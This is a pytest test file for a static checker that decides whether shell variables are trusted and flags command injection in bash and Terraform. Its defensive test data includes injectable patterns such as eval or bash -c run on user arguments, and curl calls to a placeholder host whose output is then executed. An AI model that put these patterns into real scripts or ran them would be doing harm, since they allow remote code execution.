"""Where a shell variable's value comes from."""

from __future__ import annotations

import time

import pytest

from server.guard.code import find_insecure
from server.guard.origins import Script


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("table=orders\n", "table"),
        ("for table in a b; do\n", "table"),
        ("root=${ROOT:-/srv}\ndir=$root/x\n", "dir"),
        ("n=$(date +%s)\n", "n"),
        ("id=$1\n[[ $id =~ ^[0-9]+$ ]] || exit\n", "id"),
        ('id=$1\nrequire_int "$id"\n', "id"),
        ("printf -v q '%q' \"$1\"\n", "q"),
        ("declare -A m=([a]=b)\nf=${m[$k]}\n", "k"),
        ("", "DEPLOY_ROOT"),
    ],
)
def test_a_value_of_the_script_or_a_checked_one_is_settled(code: str, name: str) -> None:
    assert Script(code).is_settled(name, len(code))


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("id=$1\n", "id"),
        ("read -r id\n", "id"),
        ('for f in "$@"; do\n', "f"),
        ("", "QUERY_STRING"),
        ("a=$b\nb=$a\n", "a"),
        (
            'read -ra pairs <<< "$QUERY_STRING"\nfor p in "${pairs[@]}"; do\ncase $p in\n n=*) n=${p#n=};;\n',
            "n",
        ),
        ("conf=/tmp/app.conf\n", "conf"),
    ],
)
def test_a_value_from_outside_is_not(code: str, name: str) -> None:
    assert not Script(code).is_settled(name, len(code))


def test_an_argument_is_what_the_calls_give() -> None:
    code = 'count() {\n  psql -c "select $1"\n}\ncount orders\n'
    at = code.index("$1")
    assert Script(code).is_settled("1", at)
    assert not Script(code + 'count "$2"\n').is_settled("1", at)
    assert not Script(code).is_settled("1", len(code))


def test_a_variable_that_may_be_empty_is_not_settled_where_that_matters() -> None:
    assert not Script("").is_settled("BUILD_ROOT", 0, environment=False)
    assert Script("BUILD_ROOT=/srv/build\n").is_settled("BUILD_ROOT", 20, environment=False)


def test_a_long_text_of_many_variables_is_judged_in_time() -> None:
    code = "".join(f"v{i}=$v{i + 1}\nf{i}() {{\n  f{i + 1} $1\n}}\n" for i in range(4000))
    script = Script(code)
    started = time.process_time()
    for i in range(4000):
        script.is_settled(f"v{i}", 0)
        script.is_settled("1", i * 20)
    assert time.process_time() - started < 10


LONG = "x" * 250_000
OUTSIDE = [  # each was once taken for what the script or its operator says
    'eval "$EDITOR $1"',
    'eval "$HOME/bin/run $1"',
    'eval "$HOME/x $(cat /tmp/upload)"',
    'eval "$HOME/x ${!name}"',
    'eval "$HOME/x"; eval "$1"',
    'eval "$HOME/x \\\n  $1"',
    'bash -c "$HOME/run ${!name}"',
    'bash -c "$HOME/run $(curl http://e/x)"',
    'bash -c "$HOME/run\n$1"',
    'X=$(curl -s https://e.example/x)\nbash -c "$X"',
    'X=$(date; curl -s https://e.example/x)\nbash -c "$X"',
    'X="$(date)$1"\nbash -c "$X"',
    'X=$(printf "%d %s" 1 "$1")\nbash -c "run $X"',
    'X=$(mktemp "$1.XXXX")\nbash -c "run $X"',
    'X=$(date | sed "s/.*/$1/")\nbash -c "run $X"',
    'X=$(hostname | xargs curl)\nbash -c "$X"',
    'bash -c "$PULL_TEXT"',
    'eval "$WEBHOOK_DATA $X"',
    "CONF=/etc/app.conf\necho " + LONG + '\nCONF=$1\nsource "$CONF"',
    "URL=https://e.example\n" * 60 + 'URL=$1\ncurl "$URL"',
    'URL="https://e.example/' + "x" * 301 + '$1"\ncurl "$URL"',
    'mapfile -t CONF < "$1"\nsource "$CONF"',
    'while getopts a: CONF; do\nsource "$CONF"\ndone',
    ': "${CONF:=$1}"\nsource "$CONF"',
    'printf -v URL %s "$1"\ncurl "$URL"',
    'f() {\n  local url=https://e.example\n}\ng() {\n  curl "$url"\n}',
    'f() {\n  local URL\n}\ncurl "$URL"',
    'main() {\n  local db=app\n  count\n}\ncount() {\n  psql -c "select * from $db"\n}\nmain\ncount',
    "URL=$1\necho 'case $URL in'\ncurl \"$URL\"",
    'URL=$1\necho "validate $URL"\necho \'validate $URL\'\ncurl "$URL"',
    'while read -r line; do\n[[ $line == \\#* ]] && continue\neval "export $line"\ndone < "$1"',
    'while read -r line; do\n[[ $line =~ ^[[:space:]]*# ]] && continue\neval "export $line"\ndone < "$1"',
    'declare -A run\nrun[a]=$1\nbash -c "${run[a]}"',
]


@pytest.mark.parametrize("code", OUTSIDE, ids=[code[-40:] for code in OUTSIDE])
def test_what_is_not_known_is_not_settled(code: str) -> None:
    assert find_insecure(f"#!/bin/bash\n{code}\n", "shell")


@pytest.mark.parametrize(
    "code",
    [
        'eval "$HOME/bin/run $(date +%s)"',
        'tool=/usr/bin/tool\nbash -c "$tool --jobs $(nproc) && $HOME/bin/next"',
        'root=$(cd "$(dirname "$0")" && pwd)\nbash -c "$root/run"',
        'bash -c "cd $APP_HOME && make"',
        'X=$(printf "%d" "$1")\nY=$(printf %s "$2" | tr -cd a-z)\nbash -c "run $X $Y"',
        'n=$(wc -l < "$1")\nfree=$(df / | awk \'{print $4}\')\nbash -c "run $n $free"',
        'X=$(mktemp -d)\nbash -c "run $X"',
        'here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\nbash -c "$here/run"',
        'main() {\n  local db=app\n  count\n}\ncount() {\n  psql -c "select * from $db"\n}\nmain',
        'su - postgres -c "psql -d $PGDATABASE"',
        'case "$URL" in\n  https://e.example/*) ;;\n  *) exit 1 ;;\nesac\ncurl "$URL"',
        ': "${CONF:=/etc/app.conf}"\nsource "$CONF"',
        'printf -v URL "%s/%s" https://e.example x\ncurl "$URL"',
    ],
)
def test_what_the_script_says_in_full_is(code: str) -> None:
    assert not find_insecure(f"#!/bin/bash\n{code}\n", "shell")


def terraform(variables: str, command: str) -> bool:
    step = f'  provisioner "local-exec" {{\n    command = {command}\n  }}\n'
    return bool(find_insecure(f'{variables}\nresource "null_resource" "x" {{\n{step}}}\n', "terraform"))


NUMBER = 'variable "n" {\n  type = number\n}\n'


@pytest.mark.parametrize(
    ("variables", "command"),
    [
        ('variable "cmd" {}\n' + NUMBER, '"run ${var.cmd}"'),
        ('variable "cmd" { default = "x" }\n' + NUMBER, '"run ${var.cmd}"'),
        ('variable "cmd" {\n  description = "type = number"\n}\n', '"run ${var.cmd}"'),
        ('variable "cmd" {\n  type = object({\n    type = number\n  })\n}\n', '"run ${var.cmd}"'),
        (NUMBER, '"run ${var.n} ${local.x} ${data.http.e.body}"'),
        (NUMBER, '"run ${var.n} ${var.n == 1 ? local.x : 0}"'),
        (NUMBER, "<<EOT\nrun ${var.n}\nrun ${local.x}\nEOT"),
        (NUMBER, '"run ${var.n} %{ for x in local.y }${x}%{ endfor }"'),
    ],
)
def test_an_input_of_terraform_is_judged_by_its_own_block(variables: str, command: str) -> None:
    assert terraform(variables, command)


@pytest.mark.parametrize("command", ['"run ${var.n} ${path.module} ${aws_instance.x.id}"', "<<EOT\nrun ${var.n}\nEOT"])
def test_a_number_of_terraform_is_no_command(command: str) -> None:
    assert not terraform(NUMBER, command)


@pytest.mark.parametrize(
    "text",
    [
        'eval "$a $b"\n' + "\n" * 19_000 + "x",
        'eval "$a $b"\ndeclare -' + "i" * 19_000,
        'eval "$a $b"\nif' + "\n" * 19_000 + "x",
        'eval "$a $b"\n' + 'a="' * 6_000,
        'eval "$a $b"\n' + "a=$(" * 4_000,
        'eval "$a $b"\n' + "read " * 4_000,
        'eval "$a $b"\n' + "for a in " * 2_000,
        'eval "$a"' + "`" * 15_000,
    ],
    ids=lambda text: text[12:30].strip(),
)
def test_a_hostile_script_is_read_in_time(text: str) -> None:
    script = Script(text)
    begin = time.process_time()
    script.are_settled(0, 8)
    script.is_settled("a", 0)
    assert time.process_time() - begin < 1
